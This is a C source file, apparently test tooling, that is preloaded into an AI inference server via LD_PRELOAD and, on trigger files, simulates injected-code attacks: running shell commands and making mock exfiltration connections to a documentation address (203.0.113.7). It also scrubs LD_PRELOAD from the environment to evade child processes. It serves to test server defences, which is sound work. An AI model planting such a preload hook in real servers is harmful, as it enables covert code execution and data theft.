/* Planted attacks for `cargo xtask realserve`: preloaded into an inference server
 * (LD_PRELOAD), a thread in the server's own process waits for trigger files in
 * $REALSERVE_ATTACK_DIR and performs the attack named by each, as code injected into the
 * server would. Only the first process gets it: the constructor takes LD_PRELOAD and the
 * directory out of the environment, so the server's children run clean. With
 * $REALSERVE_ATTACK_IN set, the process whose command line contains it gets it instead (a
 * worker that a server's frontend starts with its own environment: TorchServe's Python
 * backend); the processes before it keep the environment for their children. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static char dir[512];

static int take(const char *name) {
    char path[600];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    return unlink(path) == 0;
}

static void done(const char *name) {
    char path[600];
    snprintf(path, sizeof path, "%s/%s.done", dir, name);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) close(fd);
}

static void connect_to(int type, const char *ip, int port) {
    int fd = socket(AF_INET, type | SOCK_NONBLOCK, 0);
    if (fd < 0) return;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (type == SOCK_DGRAM)
        sendto(fd, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
    else
        connect(fd, (struct sockaddr *)&a, sizeof a);
    usleep(200000);
    close(fd);
}

static void *watch(void *unused) {
    (void)unused;
    for (;;) {
        /* A shell that runs a program (`system("id")`). */
        if (take("shell")) { if (system("id >/dev/null")) {} done("shell"); }
        /* A shell whose command is builtins only. */
        if (take("shell-builtin")) { if (system("echo pwned >/dev/null")) {} done("shell-builtin"); }
        /* Exfiltration from the server process: TCP connect and a UDP datagram to a public
         * address (TEST-NET-3: nothing answers). */
        if (take("exfil-tcp")) { connect_to(SOCK_STREAM, "203.0.113.7", 443); done("exfil-tcp"); }
        if (take("exfil-udp")) { connect_to(SOCK_DGRAM, "203.0.113.7", 53); done("exfil-udp"); }
        usleep(200000);
    }
    return NULL;
}

/* Whether this process's command line (its arguments joined by spaces) contains `what`. */
static int cmdline_has(const char *what) {
    char buf[8192];
    int fd = open("/proc/self/cmdline", O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    for (ssize_t i = 0; i < n; i++)
        if (buf[i] == '\0') buf[i] = ' ';
    buf[n] = '\0';
    return strstr(buf, what) != NULL;
}

__attribute__((constructor)) static void start(void) {
    const char *d = getenv("REALSERVE_ATTACK_DIR");
    if (!d) return;
    const char *in = getenv("REALSERVE_ATTACK_IN");
    if (in && *in && !cmdline_has(in)) return;
    unsetenv("REALSERVE_ATTACK_IN");
    snprintf(dir, sizeof dir, "%s", d);
    unsetenv("REALSERVE_ATTACK_DIR");
    unsetenv("LD_PRELOAD");
    pthread_t t;
    pthread_create(&t, NULL, watch, NULL);
    pthread_detach(t);
}
